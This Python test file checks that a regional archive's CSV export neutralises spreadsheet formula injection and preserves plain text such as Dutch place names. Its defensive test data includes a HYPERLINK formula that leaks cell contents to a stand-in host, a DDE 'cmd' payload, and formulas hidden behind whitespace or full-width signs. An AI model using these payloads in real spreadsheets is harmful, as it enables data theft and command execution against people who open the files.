"""What a spreadsheet would run goes out as text, and comes back as it was."""

import csv
import json
from datetime import date
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from acts_of_a_region import by, open_region
from archive_of_a_region import export
from quick import examples
from rso_core import acts
from rso_core.dossier import import_dossier
from rso_core.events import PartyKind
from rso_core.spreadsheet_text import disarmed, rearmed

LINK = '=HYPERLINK("http://x.example/"&A1;"klik")'


@pytest.mark.parametrize(
    "text",
    [
        LINK,
        "+cmd|' /C calc'!A0",
        "-1+A1",
        "@SUM(A1)",
        "\t=A1",
        "\tx",
        "\rx",
        "\n=A1",
        " =A1",
        "\u00a0-A1",
        "\ufeff=A1",
        "＝A1",
        "＠A1",
        "-x",
        "+31 (0)6",
        "'=A1",
        "''=A1",
    ],
)
def test_what_would_be_a_formula_has_an_apostrophe_before_it(text: str) -> None:
    assert disarmed(text) == f"'{text}"
    assert rearmed(disarmed(text)) == text


@pytest.mark.parametrize(
    "text",
    [
        "",
        "-",
        "-5",
        "+5",
        "-1.234,50",
        "-0,5 %",
        "+31 6 12345678",
        "2026-01-01",
        "gewoon",
        "a=b",
        "'t Gooi",
        "'s-Gravenhage",
        "'",
        "a\n=b",
    ],
)
def test_numbers_days_and_plain_text_stay_as_they_are(text: str) -> None:
    assert disarmed(text) == rearmed(text) == text


@given(st.text("=+-@'\t\r\n 5,a", max_size=6))
@settings(max_examples=examples(200))
def test_any_text_comes_back_as_it_was(text: str) -> None:
    assert rearmed(disarmed(text)) == text


@pytest.mark.parametrize("raw_cells", [False, True])
def test_a_name_that_is_a_formula_stands_as_text_in_the_tables_of_an_archive(
    sqlite_url: str, tmp_path: Path, raw_cells: bool
) -> None:
    with open_region(sqlite_url) as application:
        day = date(2025, 9, 2)
        application.perform(acts.RegisterParty(party="q", name=LINK, kind=PartyKind.PROVINCE, on=day), by())
        application.perform(
            acts.DraftVersion(covenant="conv", version="v", document="@stuk", sha256="a" * 64, on=day), by()
        )
        export(application.store, tmp_path / "a", raw_cells=raw_cells)
    mark = "" if raw_cells else "'"
    registers = tmp_path / "a/data/registers"
    assert mark + LINK in [row[0] for row in table(registers / "parties.csv")]
    assert f"{mark}@stuk" in [row[1] for row in table(tmp_path / "a/data/documents/documenten.csv")]
    described = json.loads((registers / "parties.csv-metadata.json").read_text(encoding="utf-8"))
    assert ("dc:description" in described) is not raw_cells


def table(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.reader(file, delimiter=";"))


def test_what_was_exported_is_imported_as_it_was(sqlite_url: str, tmp_path: Path) -> None:
    names = [LINK, "'t Gooi", "-5", "'=x", "+x"]
    with (tmp_path / "in.csv").open("w", encoding="utf-8-sig", newline="") as file:
        writer = csv.writer(file, delimiter=";")
        writer.writerow(["party", "name", "kind", "on"])
        writer.writerows([f"q-{n}", disarmed(name), PartyKind.PROVINCE, "2026-01-01"] for n, name in enumerate(names))
    with open_region(sqlite_url) as application:
        report = import_dossier(application, tmp_path / "in.csv", actor="office:secretariaat", act="register-party")
        assert report.bad_lines == []
        said = [application.store.stream(f"party:q-{n}")[0].event for n in range(len(names))]
    assert [event.name for event in said] == names  # type: ignore[attr-defined]
